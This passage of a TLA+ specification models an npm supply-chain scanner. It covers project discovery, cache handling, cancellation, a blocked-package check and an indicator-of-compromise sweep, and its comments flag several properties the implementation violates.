                  j # i => ~(/\ Len(dvisits[j].path) > Len(dvisits[i].path)
                             /\ SubSeq(dvisits[j].path, 1, Len(dvisits[i].path))
                                  = dvisits[i].path)
             /\ \A c \in DOMAIN dcalls : dcalls[c] # dvisits[i].path

\* a directory at depth 2 under max_depth = 1 holds package.json and a
\* subdirectory; its parent was scanned as a project
C16_Witness ==
    /\ dpc = "done" /\ dcancel # "set"
    /\ max_depth = 1
    /\ \E i \in DOMAIN dvisits :
         /\ dvisits[i].deep
         /\ dvisits[i].files = {"package.json"}
         /\ \E d \in DirNames : Append(dvisits[i].path, d) \in dtree
    /\ dcalls # <<>>

\* C17: a directory the walk processes is a project root iff one of its
\* files is called package.json, case ignored; the project scan is called
\* once on each project root and on nothing else.
C17_OneScanPerProjectRoot ==
    /\ \A i \in Processed :
         Cardinality({c \in DOMAIN dcalls : dcalls[c] = dvisits[i].path})
           = IF dvisits[i].files \cap {"package.json", "Package.JSON"} # {}
             THEN 1 ELSE 0
    /\ \A c \in DOMAIN dcalls : \E i \in Processed : dvisits[i].path = dcalls[c]

\* a walk that was not cancelled found Package.JSON in one directory and no
\* manifest in another
C17_Witness ==
    /\ dpc = "done" /\ dcancel # "set"
    /\ \E i \in Processed :
         /\ dvisits[i].files = {"Package.JSON"}
         /\ \E c \in DOMAIN dcalls : dcalls[c] = dvisits[i].path
    /\ \E i \in Processed :
         /\ dvisits[i].files = {}
         /\ \A c \in DOMAIN dcalls : dcalls[c] # dvisits[i].path
    /\ Len(dcalls) = 2

\* the cache file was younger than 24 hours at the call
WasFresh == fcache0.exists /\ fcache0.age \in {3600, 86399}

\* the request was made and failed, or its body was no JSON
NetFailed == frequested /\ fnet.status # "ok"

CacheLeft ==
    IF ~WasFresh /\ fnet.status = "ok" /\ fwrite = "truncated"
    THEN "corrupt"
    ELSE fcache0.kind

\* what fetch_json is to return, by the cache and the outcomes of request
\* and write
ExpectedResult ==
    IF WasFresh
    THEN (IF fcache0.kind = "json" THEN fcache0.items ELSE <<>>)
    ELSE IF fnet.status = "ok" /\ fwrite = "ok" THEN fnet.items
    ELSE IF CacheLeft = "json" THEN fcache0.items
    ELSE <<>>

\* the cache file is read, at the start or as the fallback
CacheRead ==
    \/ WasFresh
    \/ fcache0.exists /\ ~(fnet.status = "ok" /\ fwrite = "ok")

C20_NoWorkAfterCancel ==
    [][(cancel = "set" /\ pc = "run" /\ pos \in {3, 4, 5})
         => appended' = appended]_vars

\* C21: a sub-step of the npm project scan that begins with the token set
\* appends no finding. pnpm-lock.yaml and the rc files are read without a
\* look at the token, so this is violated.
C21_NoSubStepAfterCancel ==
    [][pcancel = "set" => prows' = prows]_vars

\* C22: a run in which an interrupt was caught ends like a cancelled run:
\* its summary line is the early-termination line. The summary line is
\* chosen by the token alone, so an interrupt with the token unset ends on
\* the normal line and this is violated.
C22_InterruptEndsAsCancelled ==
    (outcome = "returned" /\ interrupted) => summary = "early"

\* the watch set and the blocked versions of the project step, spelled out
WatchedNames == {"chalk", "debug"}
Blocked(name, version) == name = "chalk" /\ version = <<5, 6, 1>>

\* the Detail values of the four producers: a breadcrumb from "root" down
\* to the package, a key of the JSON lockfile, or the name of a
\* line-oriented lockfile
IsBreadcrumb(name, detail) ==
    /\ Len(detail) >= 2
    /\ detail[1] = "root"
    /\ detail[Len(detail)] = name
    /\ \A k \in 2..Len(detail) : detail[k] \in Names

\* C23: every npm:packages finding has Item name@version [STATUS] with a
\* watched name and a version, Severity HIGH and STATUS "A RISQUE" iff the
\* version is blocked for the name, Severity INFO and STATUS "OK" otherwise,
\* never MEDIUM; the Detail of a finding of the tree walker is the
\* breadcrumb from "root" to the package.
C23_PackageFindingShape ==
    \A i \in DOMAIN prows :
        prows[i].Category = "npm:packages" =>
            LET r == prows[i]
                name == r.Item[1]
                version == r.Item[2]
            IN  /\ Len(r.Item) = 3
                /\ name \in WatchedNames
                /\ Len(version) = 3
                /\ IF Blocked(name, version)
                   THEN r.Item[3] = "A RISQUE" /\ r.Severity = "HIGH"
                   ELSE r.Item[3] = "OK" /\ r.Severity = "INFO"
                /\ r.Severity # "MEDIUM"
                /\ \/ IsBreadcrumb(name, r.Detail)
                   \/ r.Detail = <<"yarn.lock">>
                   \/ r.Detail = <<"pnpm-lock.yaml">>
                   \/ /\ r.Detail[1] = "node_modules"
                      /\ r.Detail[Len(r.Detail)] = name

\* the tree walker reported a blocked version and pnpm-lock.yaml one that
\* is not blocked
C23_Witness ==
    /\ ppc = "done"
    /\ \E i \in DOMAIN prows :
         /\ prows[i].Category = "npm:packages"
         /\ prows[i].Severity = "HIGH"
         /\ prows[i].Detail[1] = "root"
    /\ \E i \in DOMAIN prows :
         /\ prows[i].Category = "npm:packages"
         /\ prows[i].Severity = "INFO"
         /\ prows[i].Detail = <<"pnpm-lock.yaml">>

\* C24: the run always leaves Running and returns, as Completed or as
\* Cancelled, and once the token is set while it runs it returns as
\* Cancelled. A detector error that is not KeyboardInterrupt leaves
\* run_scan_core without a return, so this is violated.
C24_RunTerminates ==
    /\ <>(outcome = "returned")
    /\ [](cancel = "set" /\ pc # "done"
            => <>(outcome = "returned" /\ summary = "early"))


\* C26: with no_npm set and sysupdater_project set, the project step leaves
\* only IoC:sysupdater findings in the result. The alternate arm calls the
\* whole scan_npm_project, whose tree walk and lockfile scans still run, so
\* this is violated.
C26_SignatureSweepOnly ==
    (options.no_npm /\ options.sysupdater_project) =>
        \A i \in 1..Len(prows) : prows[i].Category = "IoC:sysupdater"


\* C25: the nested signature sweep of a project applies the configured
\* exclusions: a directory it examines lies below the project through names
\* that are not configured out. scan_sysupdater_in_dir walks the whole tree
\* below the project and has no exclusion parameter, so this is violated.
C25_NestedSweepExcludes ==
    \A q \in dswept :
        \E c \in DOMAIN dcalls :
            /\ q \in Below(dtree, dcalls[c])
            /\ \A k \in (Len(dcalls[c]) + 1)..Len(q) : ~ConfiguredOut(q[k])


\* the limit C30 states for a sweep called with the configured depth d
StatedLimit(kind, d) ==
    LET floor == IF kind = "sysupdater_global" THEN 8 ELSE 6
    IN  IF d > floor THEN d ELSE floor

\* C30: the global signature sweep runs with max(max_depth, 8) and the miner
\* file sweep with max(max_depth, 6): a directory is skipped iff it lies
\* deeper than that limit, a skipped directory has no file looked at and no
\* child visited, and a sweep that ran to its end unstopped has reported
\* every matching file of every directory down to the limit.
C30_SweepDepthFloors ==
    LET limit == StatedLimit(skind, sopt)
    IN  /\ spc \in {"walk", "files", "done"} /\ svisits # <<>> => smax = limit
        /\ \A i \in DOMAIN svisits :
             /\ svisits[i].deep <=> Len(svisits[i].path) > limit
             /\ svisits[i].deep =>
                  /\ svisits[i].files = <<>>
                  /\ svisits[i].kept = <<>>
                  /\ \A j \in DOMAIN svisits :
                       Len(svisits[j].path) <= Len(svisits[i].path)
        /\ \A r \in DOMAIN srows : Len(srows[r].Dir) <= limit
        /\ (spc = "done" /\ scancel # "set") =>
             \A i \in DOMAIN svisits :
                 (Len(svisits[i].path) <= limit /\ svisits[i].files # <<>>) =>
                     \E r \in DOMAIN srows : srows[r].Dir = svisits[i].path

\* the global sweep under max_depth = 0 reports a file at depth 8 and
\* skips the directory at depth 9
C30_Witness ==
    /\ spc = "done" /\ scancel # "set"
    /\ skind = "sysupdater_global" /\ sopt = 0
    /\ \E r \in DOMAIN srows : Len(srows[r].Dir) = 8
    /\ \E i \in DOMAIN svisits : svisits[i].deep /\ Len(svisits[i].path) = 9


\* the sentinels of scan k that wait in the queue
Waiting(k) ==
    Cardinality({i \in DOMAIN gq : gq[i] = [tag |-> "__DONE__", scan |-> k]})

\* one sentinel per worker that returned, none lost, none in front of a
\* line the scan logged, and the queue within its size
SentinelKept ==
    /\ Len(gq) <= maxsize
    /\ \A k \in Scans :
         /\ gsent[k] = (IF gworker[k] = "ended" THEN 1 ELSE 0)
         /\ gsent[k] = gconsumed[k] + Waiting(k)
         /\ gsent[k] = 1 => gworker[k] # "run"
         /\ \A i, j \in DOMAIN gq :
              (gq[i].tag = "__DONE__" /\ gq[i].scan = k /\ i < j)
                => ~(gq[j].tag \in {"log", "hdr"} /\ gq[j].scan = k)

\* a line logged by the scan goes to the end of the queue, or is dropped
\* and counted when maxsize items wait; the sentinel goes to the end
PostOrDrop ==
    \A k \in Scans :
        /\ (gworker[k] = "run" /\ gworker'[k] = "run"
              /\ gleft'[k] = gleft[k] - 1)
             => IF Len(gq) < maxsize
                THEN gq' = Append(gq, [tag |-> "log", scan |-> k])
                       /\ dropped' = dropped
                ELSE gq' = gq /\ dropped' = dropped + 1
        /\ gsent'[k] # gsent[k]
             => gq' = Append(gq, [tag |-> "__DONE__", scan |-> k])

\* C27: a worker that returned from run_scan_core puts exactly one sentinel,
\* behind every line of its scan; a full queue drops and counts log lines
\* but never the sentinel, which the worker puts as soon as there is room
\* and pump_log then meets.
C27_SentinelDelivered ==
    /\ []SentinelKept
    /\ [][PostOrDrop]_vars
    /\ \A k \in Scans : (gworker[k] = "put_done") ~> (gsent[k] = 1)
    /\ \A k \in Scans : (gsent[k] = 1) ~> (gconsumed[k] = 1)

\* a line of the first scan was dropped on a full queue, and its sentinel,
\* put when pump_log had made room, waits at the end of the full queue
C27_Witness ==
    /\ cancel_event = 1 /\ gtokens[1] = "unset"
    /\ dropped >= 1
    /\ gworker[1] = "ended" /\ gleft[1] = 0
    /\ Len(gq) = maxsize
    /\ gq[Len(gq)] = [tag |-> "__DONE__", scan |-> 1]


\* C28: once a scan is started the front-end comes back to the not-running
\* state: the flag is false and the button starts a scan again. The except
\* branch of worker puts no sentinel and resets nothing, so this is
\* violated.
C28_ReturnsToNotRunning ==
    running ~> (~running /\ btn_run = "start")

\* a worker runs at most at a time, and a scan is started only when the
\* sentinel of the one before was met
OneWorker ==
    /\ Cardinality({k \in Scans : gworker[k] \in {"run", "put_done", "put_err"}})
         <= 1
    /\ \A k \in Scans :
         (k > 1 /\ gworker[k] # "none") => gconsumed[k - 1] = 1
    /\ \A k \in Scans :
         gworker[k] \in {"run", "put_done", "put_err"}
           => running /\ cancel_event = k

\* a token is created unset by the start of its scan; the only other change
\* sets the token of the scan the running flag stands for
TokenSteps ==
    \A k \in Scans :
        gtokens'[k] # gtokens[k] =>
            \/ /\ gtokens[k] = "none" /\ gtokens'[k] = "unset"
               /\ ~running /\ running'
               /\ cancel_event' = k
               /\ gworker[k] = "none" /\ gworker'[k] = "run"
            \/ /\ gtokens[k] = "unset" /\ gtokens'[k] = "set"
               /\ running /\ cancel_event = k

\* C29: at most one worker executes run_scan_core at any time; a scan is
\* started, with a new unset token, only after the sentinel of the scan
\* before was consumed; a stop request sets the token of the current scan
\* only, and no token is ever cleared.
C29_SingleWorker ==
    []OneWorker /\ [][TokenSteps]_vars

\* the second scan runs with its token set by a stop request; the first
\* one ended, its sentinel was met and its token is still unset
C29_Witness ==
    /\ gworker[2] = "run" /\ gtokens[2] = "set"
    /\ gworker[1] = "ended" /\ gconsumed[1] = 1 /\ gtokens[1] = "unset"

====
